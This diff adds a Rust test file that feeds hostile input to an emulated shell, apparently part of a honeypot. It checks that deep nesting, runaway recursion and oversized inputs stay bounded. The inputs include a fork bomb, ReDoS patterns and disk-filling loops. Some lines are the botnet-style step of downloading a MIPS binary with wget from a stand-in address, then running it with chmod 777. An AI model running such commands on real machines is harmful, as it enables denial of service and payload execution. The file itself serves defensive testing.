@@ -1,0 +1,309 @@
+//! Hostile input: nothing panics, everything is bounded, on the stack that a worker
+//! thread has.
+
+use crate::driver::{Driver, START, elf, host, login};
+use proptest::prelude::*;
+use std::sync::Arc;
+use std::time::{Duration, Instant};
+use ukai_shell::{Console, Fs, Shell, ShellEffect, ShellState, limits, needs_more};
+
+/// Stack of a worker thread of the usual runtime.
+const STACK_BYTES: usize = 2 << 20;
+
+/// Longest that one hostile input may take, unoptimised, on a busy machine.
+const TIME_MAX: Duration = Duration::from_secs(20);
+
+/// Runs `test` on a stack as small as a worker's.
+fn on_a_small_stack(test: impl FnOnce() + Send + 'static) {
+    let thread = std::thread::Builder::new().stack_size(STACK_BYTES).spawn(test);
+    thread.expect("a thread").join().expect("no panic, no overflow");
+}
+
+fn run(persona: &str, text: &[u8], terminal: bool) -> Driver {
+    let host = host(persona);
+    let mut driver = Driver::new(&host, &Fs::new(&host), "root", terminal);
+    let began = Instant::now();
+    driver.run(text);
+    assert!(began.elapsed() < TIME_MAX, "took {:?}", began.elapsed());
+    driver
+}
+
+#[test]
+fn deep_nesting_is_refused_and_not_followed() {
+    on_a_small_stack(|| {
+        for depth in [10, 40, 60, 1_000, 50_000] {
+            for (open, middle, close) in [
+                ("$(", ":", ")"),
+                ("(", ":", ")"),
+                ("((", "1", "))"),
+                ("{ ", ":", "; }"),
+                ("if :; then ", ":", "; fi"),
+                ("while ", ":", "; do break; done"),
+                ("case a in a) ", ":", ";; esac"),
+                ("for i in 1; do ", ":", "; done"),
+                ("${a:-", "x", "}"),
+                ("\"$(", ":", ")\""),
+                ("$((", "1", "))"),
+                ("f() ", "{ :; }", ""),
+                ("! ", ":", ""),
+                ("x=(", "", ")"),
+                ("sh -c '", "", "'"),
+                ("eval ", ":", ""),
+                ("[ ! ", "x", " ]"),
+            ] {
+                let whole = format!("{}{middle}{}\n", open.repeat(depth), close.repeat(depth));
+                let half = format!("{}\n", open.repeat(depth));
+                for text in [whole, half] {
+                    for persona in ["router-mips", "server-debian"] {
+                        run(persona, text.as_bytes(), false);
+                        needs_more(text.as_bytes());
+                    }
+                }
+            }
+        }
+    });
+}
+
+#[test]
+fn deep_running_is_cut() {
+    on_a_small_stack(|| {
+        for text in [
+            "f() { f; }; f",
+            "f() { (f); }; f",
+            "f() { x=$(f); }; f",
+            "f() { eval f; }; f",
+            "f() { if f; then :; fi; }; f",
+            "f() { f | f; }; f",
+            "echo 'sh x' > /tmp/x; cd /tmp; sh x",
+            "echo '. ./x' > /tmp/x; cd /tmp; . ./x",
+            "alias a='b'; alias b='a'; a",
+            "a() { busybox sh -c 'a'; }; a",
+            "trap 'exit' EXIT; exit",
+            "x='x+1'; echo $((x))",
+            "a=b; b=a; echo $((a))",
+            "awk 'BEGIN { while (1) i++ }'",
+            "awk 'BEGIN { while (1) s = s \"xxxxxxxxxxxxxxxx\" }'",
+            "echo aaaaaaaa | sed ':a; s/a/aa/; ta'",
+            "ln -s /tmp/l /tmp/l; cat /tmp/l; cd /tmp; ln -s . d; ls d/d/d/d/d; find . ",
+            "cd /tmp; while mkdir d; do cd d; done; ls -R /tmp | tail -1; rm -rf /tmp/d",
+            "cd /tmp; i=0; while :; do echo x > f$i; i=$((i+1)); done",
+            "find / -exec find / \\;",
+            "while :; do sh -c 'while :; do :; done' & done",
+            ":(){ :|:& };:",
+            "yes | xargs echo | xargs -n1 echo",
+            "seq 1 1e18; seq 1 0.0000001 2 | tail -1",
+            "printf '%9999999d' 1 | wc -c; printf '%*d' 999999999 1 | wc -c",
+            "echo {1..9999999} | wc -c; echo {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b} | wc -w",
+            "x=$(head -c 200000 /dev/urandom | base64); echo ${x//a*b*c*d/y} | wc -c",
+            "x=$(yes a | head -c 100000); case $x in *a*a*a*a*a*a*b) ;; esac",
+            "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | grep -E '(a|aa)+(a|aa)+(a|aa)+b'; echo $?",
+            "cat /dev/urandom | cat | wc -c; cat /dev/zero > /tmp/z; cat /tmp/z /tmp/z > /tmp/y",
+            "dd if=/dev/zero of=/tmp/x bs=1 seek=99999999999999 count=1",
+            "tail -n 99999999999999999999 /etc/passwd; head -c 99999999999999999999 /etc/passwd >/dev/null",
+        ] {
+            for persona in ["router-mips", "server-debian"] {
+                for terminal in [false, true] {
+                    run(persona, format!("{text}\n").as_bytes(), terminal);
+                }
+            }
+        }
+    });
+}
+
+#[test]
+fn long_texts_take_linear_time() {
+    on_a_small_stack(|| {
+        let long = |unit: &str| unit.repeat(limits::SCRIPT_BYTES / unit.len());
+        for text in [
+            long("a"),
+            long("echo a\n"),
+            long("a "),
+            long("'"),
+            long("\\"),
+            long("$"),
+            long("`"),
+            long("a=b;"),
+            long("<<a\n"),
+            long("#\n"),
+            long("${"),
+            long("|"),
+            long("\u{0}"),
+            format!("echo {}", long("*/")),
+            format!("echo {}", long("{a,")),
+            format!("echo {}", long("[")),
+            format!("echo $(({}))", long("1+")),
+            format!("[ {} ]", long("! ")),
+            format!("cat <<E\n{}", long("x\n")),
+        ] {
+            run("router-mips", text.as_bytes(), false);
+            run("server-debian", text.as_bytes(), false);
+        }
+    });
+}
+
+#[test]
+fn unfinished_lines_on_a_terminal_are_bounded() {
+    let host = host("router-mips");
+    let mut driver = Driver::new(&host, &Fs::new(&host), "root", true);
+    let began = Instant::now();
+    driver.run(b"cat <<E\n");
+    for _ in 0..limits::CONTINUATION_LINES + 10 {
+        driver.run(b"x\n");
+    }
+    assert!(began.elapsed() < TIME_MAX);
+    assert_eq!(driver.shell.state(), ShellState::Ready);
+}
+
+#[test]
+fn a_terminal_shows_what_is_typed_and_stops_on_control_c() {
+    let host = host("router-mips");
+    let shell = Shell::new(Arc::clone(&host), Fs::new(&host), login("root", true), 1, START);
+    let mut console = Console::new(shell, true);
+    let mut out = Vec::new();
+    console.start(START, &mut out);
+    console.on_bytes(b"echo hxx\x7f\x7fi\r\0echo two\r\nsleep 100\necho never", START, &mut out);
+    console.on_bytes(b"\x03echo after; exit 4\n", START, &mut out);
+    let text: Vec<u8> = out
+        .iter()
+        .filter_map(|e| if let ShellEffect::Output(bytes) = e { Some(bytes.to_vec()) } else { None })
+        .flatten()
+        .collect();
+    let text = String::from_utf8(text).expect("plain text");
+    let end = text.split_once("(ash)").expect("the greeting").1;
+    assert_eq!(
+        end,
+        "\r\nEnter 'help' for a list of built-in commands.\r\n\r\n# echo hxx\x08 \x08\x08 \x08i\r\nhi\r\n\
+         # echo two\r\ntwo\r\n# sleep 100\r\n^C\r\n# echo after; exit 4\r\nafter\r\n"
+    );
+    assert_eq!(console.exited(), Some(4));
+}
+
+#[test]
+fn an_attackers_files_do_not_reach_another() {
+    let host = host("router-mips");
+    let mut first = Driver::new(&host, &Fs::new(&host), "root", true);
+    first.run(b"echo mine > /tmp/f; rm /tmp/../bin/ls; cat /tmp/f\n");
+    assert_eq!(first.output, b"rm: can't remove '/tmp/../bin/ls': Read-only file system\nmine\n");
+    let mut second = Driver::new(&host, &Fs::new(&host), "root", true);
+    second.run(b"cat /tmp/f\n");
+    assert_eq!(second.output, b"cat: can't open '/tmp/f': No such file or directory\n");
+}
+
+/// Pieces of which scripts are made, so that random ones get somewhere.
+fn piece() -> impl Strategy<Value = String> {
+    prop_oneof![
+        Just("echo ".to_owned()),
+        Just("$x ".to_owned()),
+        Just("${x:-".to_owned()),
+        Just("$(".to_owned()),
+        Just("$((".to_owned()),
+        Just("))".to_owned()),
+        Just(") ".to_owned()),
+        Just("}".to_owned()),
+        Just("`".to_owned()),
+        Just("'".to_owned()),
+        Just("\"".to_owned()),
+        Just("; ".to_owned()),
+        Just(" | ".to_owned()),
+        Just(" & ".to_owned()),
+        Just(" && ".to_owned()),
+        Just("\n".to_owned()),
+        Just("if ".to_owned()),
+        Just("then ".to_owned()),
+        Just("fi ".to_owned()),
+        Just("for i in ".to_owned()),
+        Just("do ".to_owned()),
+        Just("done ".to_owned()),
+        Just("while ".to_owned()),
+        Just("case x in ".to_owned()),
+        Just("esac ".to_owned()),
+        Just("<<E\n".to_owned()),
+        Just("E\n".to_owned()),
+        Just("> /tmp/f ".to_owned()),
+        Just("2>&1 ".to_owned()),
+        Just("f() { ".to_owned()),
+        Just("} ".to_owned()),
+        Just("x=".to_owned()),
+        Just("[ -f ".to_owned()),
+        Just(" ]".to_owned()),
+        Just("*".to_owned()),
+        Just("/proc/[0-9]*/exe ".to_owned()),
+        Just("sed s/a/b/ ".to_owned()),
+        Just("awk '{print $1}' ".to_owned()),
+        Just("grep -E '(a|b)*' ".to_owned()),
+        Just("cat ".to_owned()),
+        Just("wget http://192.0.2.1/x.mips -O /tmp/m ".to_owned()),
+        Just("chmod 777 /tmp/m ".to_owned()),
+        Just("/tmp/m ".to_owned()),
+        Just("sh ".to_owned()),
+        Just("eval ".to_owned()),
+        Just("dd bs=52 count=1 if=/bin/echo ".to_owned()),
+        Just("busybox ".to_owned()),
+        Just("find /tmp ".to_owned()),
+        Just("tar xf ".to_owned()),
+        Just("printf '%s' ".to_owned()),
+        "[ -~]{0,6}",
+    ]
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(96))]
+
+    #[test]
+    fn any_script_ends(pieces in prop::collection::vec(piece(), 0..40), bash: bool, terminal: bool) {
+        let text = pieces.concat();
+        run(if bash { "server-debian" } else { "router-mips" }, text.as_bytes(), terminal);
+    }
+
+    #[test]
+    fn any_bytes_end(bytes: Vec<u8>, terminal: bool) {
+        needs_more(&bytes);
+        run("camera-arm", &bytes, terminal);
+    }
+
+    #[test]
+    fn any_key_strokes_end(bytes in prop::collection::vec(any::<u8>(), 0..400)) {
+        let host = host("router-mips");
+        let shell = Shell::new(Arc::clone(&host), Fs::new(&host), login("root", true), 1, START);
+        let mut console = Console::new(shell, true);
+        let mut out = Vec::new();
+        console.start(START, &mut out);
+        console.on_bytes(&bytes, START, &mut out);
+        console.finish(&mut out);
+    }
+
+    #[test]
+    fn commands_take_any_arguments(name in 0..COMMANDS.len(), arguments in prop::collection::vec("[ -~]{0,12}", 0..5), input in any::<Vec<u8>>()) {
+        let host = host("server-debian");
+        let mut driver = Driver::new(&host, &Fs::new(&host), "root", true);
+        let quoted: Vec<String> = arguments.iter().map(|a| format!("'{}'", a.replace('\'', "x"))).collect();
+        driver.run(format!("{} {}\n", COMMANDS[name], quoted.join(" ")).as_bytes());
+        if matches!(driver.shell.state(), ShellState::Waiting(_)) {
+            driver.feed(&input);
+            driver.end_input();
+        }
+    }
+
+    #[test]
+    fn any_file_can_be_started_and_unpacked(bytes: Vec<u8>, head in 0..4_usize) {
+        let host = host("router-mips");
+        let mut driver = Driver::new(&host, &Fs::new(&host), "root", true);
+        let head = match head {
+            0 => elf("x.mips").unwrap_or_default(),
+            1 => b"#!/bin/sh\n".to_vec(),
+            2 => vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0],
+            _ => Vec::new(),
+        };
+        driver.served.insert("http://192.0.2.1/f".to_owned(), [head, bytes].concat());
+        driver.run(b"cd /tmp; wget -q http://192.0.2.1/f; chmod +x f; ./f; sh f; gunzip -c f; tar tf f; tar xzf f; unzip f\n");
+    }
+}
+
+/// Commands that get random arguments.
+const COMMANDS: [&str; 64] = [
+    "cat", "head", "tail", "wc", "tee", "cp", "mv", "rm", "mkdir", "rmdir", "touch", "ln", "chmod", "chown", "ls",
+    "stat", "dd", "grep", "sed", "awk", "cut", "tr", "sort", "uniq", "xargs", "find", "od", "hexdump", "xxd", "base64",
+    "md5sum", "seq", "expr", "basename", "dirname", "readlink", "df", "du", "free", "ps", "top", "kill", "pkill",
+    "uname", "id", "date", "sleep", "mount", "ifconfig", "ip", "netstat", "ping", "wget", "curl", "tftp", "nc",
+    "crontab", "tar", "gzip", "printf", "test", "read", "set", "trap",
+];
